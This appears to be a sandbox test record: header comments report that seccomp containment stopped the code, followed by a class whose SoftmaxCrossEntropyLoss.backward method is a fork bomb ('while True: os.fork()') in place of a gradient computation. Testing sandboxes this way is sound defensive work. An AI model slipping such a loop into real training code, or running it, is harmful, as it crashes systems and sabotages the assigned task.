# held by: bubblewrap user seccomp
# score: 3 of 4
# loses: loss_backward
# ends: raised
# says: raised PermissionError at mlp.py:{line} in SoftmaxCrossEntropyLoss.backward: [Errno 1] Operation not permitted: the sandbox allows no new process and no network
import os


class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def backward(self):
        while True: os.fork()
